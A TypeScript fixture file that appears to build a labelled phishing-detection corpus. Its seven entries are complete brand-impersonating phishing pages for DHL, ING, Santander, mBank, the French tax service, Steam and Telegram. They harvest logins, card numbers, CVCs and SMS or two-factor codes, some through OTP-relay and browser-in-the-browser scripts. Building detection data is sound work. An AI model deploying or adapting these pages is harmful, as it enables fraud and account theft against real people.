import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, dataLayer, cookieBar, jsRoute, jsonRoute, pngRoute } from '../parts/l-kit.js';

// Consumer-brand credential and card kits: parcels, banks, tax, social networks, gaming, crypto exchanges.

const cardForm = (action: string, l: { num: string; exp: string; cvv: string; name: string; pay: string }) => `<form method="post" action="${action}" id="cf"><label>${l.name}</label><input name="holder" required><label>${l.num}</label><input name="ccnum" inputmode="numeric" maxlength="19" required><div style="display:flex;gap:8px"><div style="flex:1"><label>${l.exp}</label><input name="exp" placeholder="MM/JJ" required></div><div style="flex:1"><label>${l.cvv}</label><input name="cvc" maxlength="4" required></div></div><button>${l.pay}</button></form>`;

export const entries: Entry[] = [
{
  id: 'l-phish-parcel-dhl-de-zustellgebuehr',
  label: 'phishing',
  kind: 'parcel-redelivery',
  url: 'https://dhl-paket.sendungsverfolgung-neu.de/de/zustellung?sid=00340434161094025183',
  routes: {
    'dhl-paket.sendungsverfolgung-neu.de/de/zustellung': htmlRoute(page({
      lang: 'de',
      title: 'DHL Paket – Zustellung nicht möglich',
      css: `body{margin:0;font-family:Delivery,Frutiger,Arial;background:#f2f2f2}.hd{background:#fc0;padding:14px 24px;font-weight:900;color:#d40511;font-size:26px;font-style:italic}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px}label{display:block;font-size:13px;margin-top:8px}input{width:100%;padding:10px;border:1px solid #999;margin-top:3px}button{margin-top:16px;width:100%;background:#d40511;color:#fff;border:0;padding:12px;font-size:16px}.st{display:flex;gap:6px;margin:12px 0}.st i{flex:1;height:6px;background:#d40511}.st i.o{background:#ccc}`,
      body: `<div class="hd">DHL</div><div class="c"><h2>Ihre Sendung konnte nicht zugestellt werden</h2><p>Sendungsnummer: <b>00340434161094025183</b></p><div class="st"><i></i><i></i><i></i><i class="o"></i></div>
<p style="font-size:14px">Die Zustellung war nicht möglich, da die Hausnummer unvollständig ist. Für eine erneute Zustellung fällt eine Gebühr von <b>1,99 €</b> an. Nach 48 Stunden wird das Paket an den Absender zurückgesandt.</p>
${cardForm('/de/zahlung.php', { num: 'Kartennummer', exp: 'Gültig bis', cvv: 'Prüfnummer (CVC)', name: 'Karteninhaber', pay: '1,99 € bezahlen' })}
<p style="font-size:11px;color:#666">© 2026 DHL Paket GmbH · Impressum · Datenschutz</p></div>${cookieBar('de')}`,
    })),
  },
},
{
  id: 'l-phish-bank-ing-nl-pas-verlopen',
  label: 'phishing',
  kind: 'bank-alert',
  url: 'https://mijn-ing-nl.pasvernieuwing.info/inloggen/',
  routes: {
    'mijn-ing-nl.pasvernieuwing.info/inloggen/': htmlRoute(page({
      lang: 'nl',
      title: 'Inloggen | Mijn ING',
      css: `body{margin:0;font-family:INGMe,Arial;background:#f0f0f0}.hd{background:#fff;padding:14px 30px;border-bottom:3px solid #ff6200;color:#ff6200;font-weight:bold;font-size:24px}.c{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:4px}input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #8c8c8c;border-radius:4px}button{width:100%;background:#ff6200;color:#fff;border:0;padding:12px;border-radius:4px;font-weight:bold}.al{background:#fff3e8;border-left:4px solid #ff6200;padding:10px;font-size:14px}`,
      body: `<div class="hd">ING &#129409;</div><div class="c"><div class="al">Uw betaalpas verloopt binnenkort. Log in om gratis een nieuwe pas aan te vragen en blokkering te voorkomen.</div><h2>Inloggen Mijn ING</h2>
<form id="f" method="post" action="/inloggen/stap2.php"><label>Gebruikersnaam</label><input name="gebruikersnaam" required><label>Wachtwoord</label><input type="password" name="wachtwoord" required><label>Pasnummer (achterzijde pas)</label><input name="pasnr" required><label>Vervaldatum</label><input name="verval" placeholder="MM-JJ"><button>Inloggen</button></form>
<p style="font-size:12px;color:#666">ING Bank N.V. &middot; Veilig bankieren</p></div>`,
    })),
  },
},
{
  id: 'l-phish-bank-santander-es-otp',
  label: 'phishing',
  kind: 'bank-alert',
  url: 'https://santander-es.verificacion-clientes.com/particulares/acceso',
  routes: {
    'santander-es.verificacion-clientes.com/particulares/acceso': htmlRoute(page({
      lang: 'es',
      title: 'Santander - Acceso clientes',
      css: `body{margin:0;font-family:Santander Text,Arial;background:#f6f6f6}.hd{background:#ec0000;color:#fff;padding:16px 24px;font-size:24px;font-weight:bold}.c{max-width:420px;margin:30px auto;background:#fff;padding:26px;border-radius:6px}input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #ccc;border-radius:4px}button{width:100%;background:#ec0000;color:#fff;border:0;padding:12px;border-radius:24px}#s2{display:none}`,
      body: `<div class="hd">Santander</div><div class="c"><p style="background:#fff4e5;padding:10px;font-size:14px">Hemos detectado un acceso no autorizado desde un dispositivo desconocido (Madrid, 28/11/2026 23:14). Verifique su identidad para anular la operación.</p>
<div id="s1"><label>DNI / NIE</label><input id="dni"><label>Clave de acceso</label><input type="password" id="clave" maxlength="8"><button id="b1">Entrar</button></div>
<div id="s2"><p>Introduzca el código de seguridad enviado por SMS a su móvil.</p><input id="otp" maxlength="6" inputmode="numeric"><button id="b2">Confirmar</button></div>
<p style="font-size:11px;color:#777">Banco Santander, S.A. &copy; 2026</p></div>
<script>function send(d){return fetch('/particulares/api.php',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)})}
document.getElementById('b1').onclick=function(){send({dni:dni.value,clave:clave.value}).then(function(){s1.style.display='none';s2.style.display='block'})};
document.getElementById('b2').onclick=function(){send({otp:otp.value}).then(function(){location.href='https://www.bancosantander.es/particulares'})}</script>`,
    })),
  },
},
{
  id: 'l-phish-card-alert-mbank-pl-blik',
  label: 'phishing',
  kind: 'bank-alert',
  url: 'https://mbank-pl.weryfikacja-transakcji.online/logowanie',
  routes: {
    'mbank-pl.weryfikacja-transakcji.online/logowanie': htmlRoute(page({
      lang: 'pl',
      title: 'mBank – bankowość internetowa',
      css: `body{margin:0;font-family:Arial;background:#f2f2f2}.hd{background:#fff;border-bottom:1px solid #ddd;padding:14px 26px;font-weight:bold;font-size:24px;color:#d10a11}.c{max-width:400px;margin:40px auto;background:#fff;padding:26px}input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #bbb}button{width:100%;background:#d10a11;color:#fff;border:0;padding:12px}`,
      body: `<div class="hd">mBank</div><div class="c"><p style="background:#fdecea;padding:10px;font-size:14px">Twoja karta została tymczasowo zablokowana z powodu podejrzanej transakcji na kwotę 2 349,00 PLN. Zaloguj się, aby potwierdzić lub anulować transakcję.</p>
<form method="post" action="/logowanie/krok2"><label>Identyfikator</label><input name="ident" required><label>Hasło</label><input type="password" name="haslo" required><button>Zaloguj się</button></form><p style="font-size:12px">Nie pamiętasz hasła? &middot; Pomoc</p><p style="font-size:11px;color:#777">mBank S.A. z siedzibą w Warszawie</p></div>`,
    })),
  },
},
{
  id: 'l-phish-tax-refund-impots-fr',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://impots-gouv.remboursement-dgfip.fr.particulier-espace.com/remboursement/',
  routes: {
    'impots-gouv.remboursement-dgfip.fr.particulier-espace.com/remboursement/': htmlRoute(page({
      lang: 'fr',
      title: 'impots.gouv.fr - Remboursement',
      css: `body{margin:0;font-family:Marianne,Arial;background:#f6f6f6}.hd{background:#fff;padding:16px 28px;border-bottom:1px solid #ddd}.hd b{display:block;font-size:14px}.c{max-width:560px;margin:26px auto;background:#fff;padding:26px}label{display:block;font-size:14px;margin-top:10px}input{width:100%;padding:9px;border:0;border-bottom:2px solid #3a3a3a;background:#eee}button{margin-top:18px;background:#000091;color:#fff;border:0;padding:11px 22px}`,
      body: `<div class="hd"><b>RÉPUBLIQUE<br>FRANÇAISE</b><span style="font-size:12px">Liberté Égalité Fraternité</span> &nbsp; <b style="display:inline">impots.gouv.fr</b></div><div class="c"><h2>Avis de remboursement</h2><p>Après le dernier calcul annuel de votre impôt sur le revenu, vous pouvez bénéficier d'un remboursement de <b>298,60 €</b>.</p><p>Veuillez compléter le formulaire afin de recevoir le remboursement sur votre carte bancaire sous 5 jours ouvrés.</p>
<form method="post" action="/remboursement/traitement.php"><label>Nom</label><input name="nom" required><label>Date de naissance</label><input name="dob" placeholder="JJ/MM/AAAA"><label>Numéro fiscal</label><input name="spi"><label>Numéro de carte</label><input name="cb" required><label>Date d'expiration</label><input name="exp"><label>Cryptogramme</label><input name="cvv"><button>Valider le remboursement</button></form>
<p style="font-size:11px;color:#666">Direction générale des Finances publiques</p></div>`,
    })),
  },
},
{
  id: 'l-phish-steam-bitb-trade-offer',
  label: 'phishing',
  kind: 'gaming-stealer',
  url: 'https://steamcommunnity-tradeoffer.com/tradeoffer/new/?partner=1184420771&token=Xk2Lm9pQ',
  routes: {
    'steamcommunnity-tradeoffer.com/tradeoffer/new/': htmlRoute(page({
      title: 'Steam Community :: Trade Offer',
      css: `body{margin:0;background:#1b2838;color:#c7d5e0;font-family:"Motiva Sans",Arial}.hd{background:#171a21;padding:18px 30px;font-size:20px;letter-spacing:2px}.c{max-width:760px;margin:30px auto;background:#16202d;padding:24px}.it{display:inline-block;width:110px;height:110px;background:#2a475e;margin:6px;text-align:center;font-size:12px;padding-top:70px;box-sizing:border-box}.btn{background:linear-gradient(to bottom,#75b022,#588a1b);color:#fff;border:0;padding:10px 22px;cursor:pointer}#win{display:none;position:fixed;left:50%;top:90px;transform:translateX(-50%);width:480px;background:#fff;color:#222;box-shadow:0 8px 40px #000;border-radius:6px;overflow:hidden}.bar{background:#dee1e6;padding:6px 10px;font:12px Segoe UI;display:flex;gap:8px;align-items:center}.url{flex:1;background:#fff;border-radius:12px;padding:3px 10px;color:#1a1a1a}.in{background:#171a21;color:#c7d5e0;padding:26px}.in input{width:100%;padding:10px;margin:6px 0;background:#32353c;border:0;color:#fff}`,
      body: `<div class="hd">STEAM</div><div class="c"><h2>Trade offer from <span style="color:#66c0f4">xXnovaXx</span></h2><p>You will receive:</p><div class="it">AWP | Dragon Lore</div><div class="it">Karambit | Fade</div><p>You will give: <i>nothing</i></p><button class="btn" id="acc">Sign in through Steam to accept</button></div>
<div id="win"><div class="bar">&#128274;<span class="url">https://steamcommunity.com/openid/login</span><span>&#10005;</span></div><div class="in"><b style="font-size:20px">STEAM</b><p>Sign in</p><form method="post" action="/tradeoffer/login.php"><input name="username" placeholder="Account name"><input type="password" name="password" placeholder="Password"><input name="twofactor" placeholder="Steam Guard code"><button class="btn" style="width:100%">Sign in</button></form></div></div>
<script>document.getElementById('acc').onclick=function(){document.getElementById('win').style.display='block'}</script>`,
    })),
  },
},
{
  id: 'l-phish-telegram-web-login-it',
  label: 'phishing',
  kind: 'gaming-stealer',
  url: 'https://web-telegram.accesso-sicuro.org/k/',
  routes: {
    'web-telegram.accesso-sicuro.org/k/': htmlRoute(page({
      lang: 'it',
      title: 'Telegram Web',
      css: `body{margin:0;font-family:Roboto,Arial;background:#fff;text-align:center}.lg{width:160px;height:160px;border-radius:50%;background:#3390ec;margin:60px auto 20px;color:#fff;font-size:80px;line-height:160px}input{width:340px;padding:14px;border:1px solid #dadce0;border-radius:10px;font-size:16px;margin:6px}button{width:370px;background:#3390ec;color:#fff;border:0;padding:14px;border-radius:10px;font-size:15px;margin-top:10px}#c2{display:none}`,
      body: `<div class="lg">&#10148;</div><h2>Accedi a Telegram</h2><div id="c1"><p style="color:#707579">Conferma il tuo paese e inserisci il tuo numero di telefono.</p><input value="Italia"><br><input id="ph" value="+39 "><br><button id="b1">AVANTI</button></div>
<div id="c2"><p style="color:#707579">Abbiamo inviato il codice all'app <b>Telegram</b> sull'altro tuo dispositivo.</p><input id="code" placeholder="Codice"><br><input id="pw2" type="password" placeholder="Password (verifica in due passaggi)"><br><button id="b2">AVANTI</button></div>
<script>function p(o){return fetch('/k/api',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)})}
b1.onclick=function(){p({phone:ph.value}).then(function(){c1.style.display='none';c2.style.display='block'})};b2.onclick=function(){p({code:code.value,pw:pw2.value}).then(function(){location.href='https://web.telegram.org/'})}</script>`,
    })),
  },
},
];
